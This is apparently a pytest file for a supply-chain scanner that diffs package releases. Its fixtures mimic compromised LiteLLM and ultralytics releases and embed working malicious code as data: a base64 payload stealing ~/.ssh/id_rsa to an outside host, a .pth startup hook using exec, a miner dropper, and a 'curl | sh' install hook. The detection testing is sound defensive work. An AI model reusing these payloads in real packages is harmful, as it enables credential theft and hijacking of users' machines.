"""`diff_trees`: what a release gained over the previous one, on LiteLLM- and ultralytics-style pairs."""

from __future__ import annotations

import base64
import json
import tempfile
from pathlib import Path

from deps_support import make_dist, make_sdist, make_wheel
from hypothesis import given, settings
from hypothesis import strategies as st

from chainproof.deps.diff import (
    DiffResult,
    diff_trees,
    render_json,
    render_table,
    summary_line,
    tree_version,
)
from chainproof.deps.model import Finding, Severity
from chainproof.deps.targets.archive import open_archive
from chainproof.deps.targets.directory import DirectoryTree

ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 60
PAYLOAD = base64.b64encode(
    b"import os, urllib.request\n"
    b"data = open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()\n"
    b"urllib.request.urlopen('https://models.litellm.cloud/upload', data=data)\n"
).decode()
PROXY = "import os\n\n\ndef start(port):\n    return os.getcwd(), port\n"
LITELLM = {
    "litellm/__init__.py": "from litellm.main import completion\n",
    "litellm/main.py": "import json\n\n\ndef completion(x):\n    return json.dumps(x)\n",
    "litellm/proxy/__init__.py": "",
    "litellm/proxy/proxy_server.py": PROXY,
}
LITELLM_7 = {
    **LITELLM,
    "litellm/proxy/proxy_server.py": PROXY
    + "import subprocess, sys, base64\n"
    + f"subprocess.Popen([sys.executable, '-c', base64.b64decode('{PAYLOAD}')])\n",
}
LITELLM_8 = {**LITELLM_7, "litellm_init.pth": f"import base64; exec(base64.b64decode('{PAYLOAD}'))\n"}

UTILS = (
    "import subprocess\n\n\ndef gpu_info():\n"
    "    return subprocess.run(['nvidia-smi'], capture_output=True).stdout\n"
)
MINER = (
    "import os\nimport subprocess\nimport urllib.request\n\n"
    "_p = os.path.join(os.path.expanduser('~'), '.cache', '.ul')\n"
    "urllib.request.urlretrieve('http://203.0.113.7/xmrig', _p)\n"
    "os.chmod(_p, 0o755)\n"
    "subprocess.Popen([_p, '-o', 'pool.example:3333'])\n"
)
ULTRALYTICS = {
    "ultralytics/__init__.py": "from ultralytics.utils import gpu_info\n__version__ = '8.3.40'\n",
    "ultralytics/utils/__init__.py": UTILS,
    "ultralytics/utils/downloads.py": "def attempt_download(url):\n    return url\n",
}
ULTRALYTICS_41 = {
    **ULTRALYTICS,
    "ultralytics/__init__.py": "from ultralytics.utils import gpu_info\n__version__ = '8.3.41'\n",
    "ultralytics/utils/downloads.py": MINER + "\n\ndef attempt_download(url):\n    return url\n",
}


def diff(
    tmp_path: Path,
    name: str,
    old: tuple[str, dict[str, str | bytes]],
    new: tuple[str, dict[str, str | bytes]],
) -> DiffResult:
    old_wheel = make_wheel(tmp_path / "old", name, old[0], old[1])
    new_wheel = make_wheel(tmp_path / "new", name, new[0], new[1])
    return diff_trees(name, open_archive(old_wheel), open_archive(new_wheel))


def rules_at(result: DiffResult, level: Severity) -> set[tuple[str, str]]:
    return {(f.rule, f.path) for f in result.at_or_above(level)}


def only(result: DiffResult, rule: str, path: str) -> Finding:
    found = [f for f in result.findings if f.rule == rule and f.path == path]
    assert len(found) == 1, [(f.rule, f.path, f.message) for f in result.findings]
    return found[0]


def test_litellm_1_82_7_gains_an_import_time_process_in_the_proxy_server(tmp_path: Path) -> None:
    result = diff(tmp_path, "litellm", ("1.82.6", LITELLM), ("1.82.7", LITELLM_7))
    assert (result.old_version, result.new_version) == ("1.82.6", "1.82.7")
    assert result.changed_files == ("litellm/proxy/proxy_server.py",)
    assert result.added_files == result.removed_files == ()
    process = only(result, "diff-new-process", "litellm/proxy/proxy_server.py")
    assert process.severity >= Severity.HIGH
    assert process.line == 7
    assert "subprocess.Popen" in process.message
    assert "import time" in process.message
    assert (process.package, process.version) == ("litellm", "1.82.7")
    exec_ = only(result, "diff-new-exec", "litellm/proxy/proxy_server.py")
    assert exec_.severity is Severity.CRITICAL
    # The decoded payload's host is named: an IOC, without running anything.
    network = only(result, "diff-new-network", "litellm/proxy/proxy_server.py")
    assert "models.litellm.cloud" in network.message


def test_litellm_1_82_8_gains_a_startup_hook(tmp_path: Path) -> None:
    result = diff(tmp_path, "litellm", ("1.82.6", LITELLM), ("1.82.8", LITELLM_8))
    assert result.added_files == ("litellm_init.pth",)
    hook = only(result, "diff-new-startup-hook", "litellm_init.pth")
    assert hook.severity is Severity.CRITICAL
    assert hook.line == 1
    assert "exec" in hook.evidence
    assert result.worst() is Severity.CRITICAL
    # Against 1.82.7, the only news is the hook (and what its line does).
    later = diff(tmp_path / "b", "litellm", ("1.82.7", LITELLM_7), ("1.82.8", LITELLM_8))
    assert {f.path for f in later.findings} == {"litellm_init.pth"}
    assert ("diff-new-startup-hook", "litellm_init.pth") in rules_at(later, Severity.CRITICAL)


def test_ultralytics_8_3_41_gains_a_download_and_run_at_import(tmp_path: Path) -> None:
    result = diff(tmp_path, "ultralytics", ("8.3.40", ULTRALYTICS), ("8.3.41", ULTRALYTICS_41))
    high = rules_at(result, Severity.HIGH)
    path = "ultralytics/utils/downloads.py"
    assert {("diff-new-process", path), ("diff-new-network", path), ("diff-new-exec", path)} <= high
    network = [f for f in result.findings if f.rule == "diff-new-network" and "203.0.113.7" in f.message]
    assert network
    assert network[0].severity is Severity.CRITICAL
    # The call in a function that 8.3.40 already had is no news.
    assert all(f.path != "ultralytics/utils/__init__.py" for f in result.findings)


def test_a_new_binary_is_medium_inside_the_package_and_high_outside(tmp_path: Path) -> None:
    inside = {**ULTRALYTICS, "ultralytics/assets/xmrig": ELF}
    outside = {**ULTRALYTICS, "xmrig": ELF, "ultralytics-8.3.41.data/scripts/yolo-helper": ELF}
    result = diff(tmp_path, "ultralytics", ("8.3.40", ULTRALYTICS), ("8.3.41", inside))
    assert only(result, "diff-new-binary", "ultralytics/assets/xmrig").severity is Severity.MEDIUM
    result = diff(tmp_path / "b", "ultralytics", ("8.3.40", ULTRALYTICS), ("8.3.41", outside))
    assert only(result, "diff-new-binary", "xmrig").severity is Severity.HIGH
    script = only(result, "diff-new-binary", "ultralytics-8.3.41.data/scripts/yolo-helper")
    assert script.severity is Severity.HIGH
    assert "outside" in script.message


def test_extension_modules_rebuilt_for_a_new_release_are_not_new(tmp_path: Path) -> None:
    old = {"pkg/__init__.py": "", "pkg/_core.cpython-311-x86_64-linux-gnu.so": ELF + b"1"}
    new = {"pkg/__init__.py": "", "pkg/_core.cpython-311-x86_64-linux-gnu.so": ELF + b"2"}
    result = diff(tmp_path, "pkg", ("1.0", old), ("1.1", new))
    assert result.findings == ()
    assert result.changed_files == ("pkg/_core.<abi>.so",)


def test_a_benign_release_gives_nothing_at_medium(tmp_path: Path) -> None:
    old = {
        "pkg/__init__.py": "__version__ = '1.0'\n",
        "pkg/a.py": "import subprocess\n\n\ndef build():\n    return subprocess.run(['make'])\n",
        "pkg/b.py": "def helper():\n    return 1\n",
    }
    new = {
        "pkg/__init__.py": "__version__ = '1.1'\n",
        "pkg/a.py": "def unrelated():\n    return 2\n",
        "pkg/b.py": (
            "import subprocess\n\n\ndef helper():\n    return 1\n\n\n"
            "def build():\n    return subprocess.run(['make'])\n"
        ),
        "pkg/pure.py": "def add(a, b):\n    return a + b\n",
        "docs/index.md": "# docs\n",
    }
    result = diff(tmp_path, "pkg", ("1.0", old), ("1.1", new))
    assert result.at_or_above(Severity.LOW) == []
    moved = only(result, "diff-moved-capability", "pkg/b.py")
    assert moved.severity is Severity.INFO
    assert "pkg/a.py" in moved.message
    assert set(result.added_files) == {"pkg/pure.py", "docs/index.md"}


def test_code_moved_between_lines_is_no_news(tmp_path: Path) -> None:
    old = {"pkg/__init__.py": "import os\nos.system('id')\n"}
    new = {"pkg/__init__.py": "import os\n\n# a comment\nX = 1\nos.system('id')\n"}
    result = diff(tmp_path, "pkg", ("1.0", old), ("1.1", new))
    assert result.findings == ()
    assert result.changed_files == ("pkg/__init__.py",)


def test_a_call_moved_to_module_level_runs_earlier(tmp_path: Path) -> None:
    old = {"pkg/__init__.py": "import os\n\n\ndef f():\n    os.system('id')\n"}
    new = {"pkg/__init__.py": "import os\n\nos.system('id')\n"}
    result = diff(tmp_path, "pkg", ("1.0", old), ("1.1", new))
    earlier = only(result, "diff-runs-earlier", "pkg/__init__.py")
    assert earlier.severity is Severity.HIGH
    assert "at import time" in earlier.message
    assert "when called" in earlier.message


def test_an_unchanged_module_a_new_hook_imports_now_runs_at_startup(tmp_path: Path) -> None:
    old = {"pkg/__init__.py": "import os\nos.system('id')\n"}
    new = {**old, "pkg.pth": "import pkg\n"}
    result = diff(tmp_path, "pkg", ("1.0", old), ("1.1", new))
    hook = only(result, "diff-new-startup-hook", "pkg.pth")
    # The hook only imports the package's own code; that code is what gets judged as startup code.
    assert hook.severity is Severity.HIGH
    earlier = only(result, "diff-runs-earlier", "pkg/__init__.py")
    assert earlier.severity is Severity.CRITICAL
    assert "interpreter start" in earlier.message


def test_removed_capabilities_are_info(tmp_path: Path) -> None:
    old = {"pkg/__init__.py": "import subprocess\nsubprocess.run(['ls'])\n"}
    new = {"pkg/__init__.py": "X = 1\n"}
    result = diff(tmp_path, "pkg", ("1.0", old), ("1.1", new))
    removed = only(result, "diff-removed-capability", "pkg/__init__.py")
    assert (removed.severity, removed.version) == (Severity.INFO, "1.0")
    assert "subprocess.run" in removed.message


def test_sdists_line_up_across_versions_and_a_new_install_hook_is_high(tmp_path: Path) -> None:
    setup_old = "from setuptools import setup\nsetup(name='pkg')\n"
    setup_new = (
        "import subprocess\nfrom setuptools import setup\nfrom setuptools.command.install import install\n"
        "class Post(install):\n    def run(self):\n        install.run(self)\n"
        "        subprocess.call(['sh', '-c', 'curl http://203.0.113.9/p | sh'])\n"
        "setup(name='pkg', cmdclass={'install': Post})\n"
    )
    old = make_sdist(tmp_path / "old", "pkg", "1.0", {"setup.py": setup_old, "pkg/__init__.py": ""})
    new = make_sdist(tmp_path / "new", "pkg", "1.1", {"setup.py": setup_new, "pkg/__init__.py": ""})
    result = diff_trees("pkg", open_archive(old), open_archive(new))
    assert result.changed_files == ("setup.py",)
    assert result.added_files == ()
    assert (result.old_version, result.new_version) == ("1.0", "1.1")
    hook = only(result, "diff-new-install-hook", "pkg-1.1/setup.py")
    assert hook.severity is Severity.HIGH
    assert "Post" in hook.message


def test_comparing_a_wheel_with_an_sdist_says_so(tmp_path: Path) -> None:
    wheel = make_wheel(tmp_path, "pkg", "1.0", {"pkg/__init__.py": ""})
    sdist = make_sdist(tmp_path, "pkg", "1.1", {"pkg/__init__.py": "", "setup.py": "print(1)\n"})
    result = diff_trees("pkg", open_archive(wheel), open_archive(sdist))
    assert result.notes
    assert "wheel" in result.notes[0]
    assert "sdist" in result.notes[0]
    assert result.added_files == ("setup.py",)


def test_tree_version_reads_metadata(tmp_path: Path) -> None:
    assert tree_version(open_archive(make_wheel(tmp_path, "pkg", "2.5", {"pkg/__init__.py": ""}))) == "2.5"
    assert tree_version(open_archive(make_sdist(tmp_path, "pkg", "3.0", {"pkg/__init__.py": ""}))) == "3.0"


def test_reports(tmp_path: Path) -> None:
    result = diff(tmp_path, "litellm", ("1.82.6", LITELLM), ("1.82.8", LITELLM_8))
    obj = json.loads(render_json(result))
    assert set(obj) == {
        "name",
        "old",
        "new",
        "findings",
        "added_files",
        "removed_files",
        "changed_files",
        "summary",
    }
    assert (obj["name"], obj["old"], obj["new"]) == ("litellm", "1.82.6", "1.82.8")
    assert obj["summary"]["worst"] == "critical"
    assert obj["summary"]["files"] == {"added": 1, "removed": 0, "changed": 1, "unchanged": 3}
    assert sum(obj["summary"]["by_severity"].values()) == len(obj["findings"]) == len(result.findings)
    first = obj["findings"][0]
    assert set(first) == {
        "rule",
        "severity",
        "package",
        "version",
        "path",
        "line",
        "message",
        "evidence",
        "advisory",
    }
    text = render_table(result)
    assert "diff-new-startup-hook" in text
    assert "files added: litellm_init.pth" in text
    assert summary_line(result).startswith(
        "litellm 1.82.6 -> 1.82.8: 1 file added, 0 files removed, 1 file changed;"
    )


SNIPPETS = [
    "import os\nos.system('id')\n",
    "import subprocess\n\n\ndef f():\n    subprocess.run(['ls'])\n",
    "import urllib.request\nurllib.request.urlopen('http://203.0.113.5/x')\n",
    "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
    "X = '~/.aws/credentials'\n",
    "def add(a, b):\n    return a + b\n",
    "def (\n",
]


@settings(max_examples=25, deadline=None)
@given(
    files=st.dictionaries(
        st.sampled_from(
            ["pkg/__init__.py", "pkg/a.py", "pkg/sub/b.py", "tests/test_a.py", "setup.py", "x.pth"]
        ),
        st.one_of(st.sampled_from(SNIPPETS), st.just(ELF)),
        min_size=1,
    )
)
def test_a_release_diffed_with_itself_or_a_mere_version_bump_has_no_findings(
    files: dict[str, str | bytes],
) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        base = Path(tmp)
        # A .pth holds one line of code, not a module.
        files = {p: "import os; os.system('id')\n" if p == "x.pth" else d for p, d in files.items()}
        one = open_archive(make_wheel(base / "a", "pkg", "1.0", files))
        bumped = open_archive(make_wheel(base / "b", "pkg", "1.1", files))
        same = diff_trees("pkg", one, one)
        assert same.findings == ()
        assert same.changed_files == same.added_files == same.removed_files == ()
        bump = diff_trees("pkg", one, bumped)
        assert bump.findings == ()
        assert bump.changed_files == ()
        assert bump.new_version == "1.1"


def test_an_installed_version_in_a_shared_environment_is_diffed_by_its_own_files(
    tmp_path: Path, site: Path
) -> None:
    installed = {"pkg/__init__.py": "import os\n\n\ndef f():\n    os.system('id')\n"}
    make_dist(site, "pkg", "1.0", installed)
    # Another distribution in the same site-packages: none of its files belong to the diff.
    make_dist(site, "other", "2.0", {"other.pth": "import os; os.system('id')\n", "other/__init__.py": ""})
    new = open_archive(
        make_wheel(tmp_path, "pkg", "1.1", {"pkg/__init__.py": "import os\nos.system('id')\n"})
    )
    result = diff_trees("pkg", DirectoryTree(site), new, old_version="1.0", old_paths=list(installed))
    assert [(f.rule, f.path) for f in result.findings] == [("diff-runs-earlier", "pkg/__init__.py")]
    assert result.removed_files == result.added_files == ()


def test_a_binary_swapped_for_another_under_a_new_name_is_not_a_move(tmp_path: Path) -> None:
    old = {"pkg/__init__.py": "", "pkg/_old.cpython-311-x86_64-linux-gnu.so": ELF}
    new = {"pkg/__init__.py": "", "pkg/assets/miner": ELF}
    result = diff(tmp_path, "pkg", ("1.0", old), ("1.1", new))
    assert only(result, "diff-new-binary", "pkg/assets/miner").severity is Severity.MEDIUM
    assert (
        only(result, "diff-removed-capability", "pkg/_old.cpython-311-x86_64-linux-gnu.so").severity
        is Severity.INFO
    )
